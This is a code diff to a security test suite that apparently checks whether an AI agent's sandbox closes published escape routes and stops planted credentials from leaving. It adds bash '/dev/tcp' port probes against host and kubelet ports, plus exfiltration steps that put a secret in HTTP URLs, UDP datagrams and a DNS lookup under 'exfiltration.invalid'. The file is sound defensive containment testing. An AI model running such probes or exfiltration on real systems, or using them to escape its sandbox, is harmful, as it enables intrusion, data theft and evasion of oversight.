@@ -1,11 +1,10 @@
 /** C-53 and C-54: published lists of escapes, each precondition looked for from inside. */
 import assert from 'node:assert/strict'
-import { readFileSync } from 'node:fs'
 import { createServer } from 'node:net'
-import { release } from 'node:os'
+import { networkInterfaces, release } from 'node:os'
 import { join } from 'node:path'
 import { attack, attackIn, once } from '../support/case.ts'
-import { RUNTIME } from '../support/runtime.ts'
+import { PROXY_HOST, RUNTIME } from '../support/runtime.ts'
 import { Stage, type Step, type Steps } from '../support/stage.ts'
 import type { As } from '../support/users.ts'
 
@@ -22,6 +21,16 @@ interface Scenario {
   readonly outside?: RegExp
   readonly rootOnly?: boolean
 }
+
+/** Of the host, as its own programs reach it; and, of a machine, the other end of its only cable. */
+const HOST_ADDRESSES = [
+  '127.0.0.1',
+  ...Object.values(networkInterfaces())
+    .flatMap((addresses = []) => addresses.filter(({ internal, family }) => !internal && family === 'IPv4'))
+    .map(({ address }) => address)
+    .slice(0, 2),
+  ...(RUNTIME === 'microvm' ? [PROXY_HOST] : []),
+]
 
 const call =
   (...args: (number | string)[]) =>
@@ -151,9 +160,10 @@ const SCENARIOS: Readonly<Record<string, Scenario>> = {
   },
   'cluster and kubelet ports': {
     closed: 'no route but the gate',
+    // An answer, not a connection: the gate takes every one before it decides.
     step: sh(
       (stage) =>
-        `for a in 127.0.0.1:${portOf(stage)}; do timeout 5 bash -c "exec 3<>/dev/tcp/$(echo $a | tr : /)" 2>/dev/null && echo open; done; true`,
+        `for a in ${HOST_ADDRESSES.join(' ')}; do timeout 5 bash -c "exec 3<>/dev/tcp/$a/${portOf(stage)}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -c 12 <&3" 2>/dev/null | grep -q " 200" && echo open; done; true`,
     ),
     inside: NOTHING,
     outside: /open/,
@@ -240,7 +250,11 @@ function discovery(stage: Stage): Step[] {
 function exfiltration(stage: Stage): Step[] {
   const port = portOf(stage)
   return [
-    { name: 'stream out', op: 'http', url: `http://127.0.0.1:${port}/?${SECRET}` } as Step,
+    ...HOST_ADDRESSES.map((host) => ({
+      name: `stream out ${host}`,
+      op: 'http',
+      url: `http://${host}:${port}/?${SECRET}`,
+    })),
     { name: 'datagram out', op: 'udp', host: '127.0.0.1', port },
     { name: 'name out', op: 'resolve', host: `${SECRET.toLowerCase()}.exfiltration.invalid`, type: 'TXT' },
   ]
@@ -268,8 +282,8 @@ onX64('C-53', 'has no precondition of the eighteen published escapes', async (as
   )
   for (const [name, { outside: seen }] of controls)
     assert.match(said(outside, name), seen ?? /never/, `control: ${name} is there outside`)
-  const kernel = readFileSync('/proc/sys/kernel/osrelease', 'utf8').trim()
-  assert.equal(kernel, release())
+  const kernel = said(inside, 'Dirty COW')
+  assert.equal(kernel === release(), RUNTIME === 'os-sandbox', `the agent's kernel is ${kernel}`)
   return `18 closed (${controls.length} open outside); kernel ${kernel}`
 })
 
@@ -287,9 +301,9 @@ attack('C-54', 'planted credentials are neither found nor carried out', async (a
       .filter((line) => line && !line.includes('/tools/'))
     assert.deepEqual(found, [], name)
   }
-  assert.ok(outside.result('stream out').ok, 'control: the listener is reached outside')
+  assert.ok(outside.result('stream out 127.0.0.1').ok, 'control: the listener is reached outside')
   assert.equal(reached(), 0, 'the host’s listener was reached from inside')
   assert.equal(inside.result('name out').ok, false)
   assert.ok(said(outside, 'by name').includes(stage.home), 'control')
-  return `${Object.keys(PLANTED).length + 3} planted, none found; 3 ways out closed`
+  return `${Object.keys(PLANTED).length + 3} planted, none found; ${HOST_ADDRESSES.length + 2} ways out closed`
 })
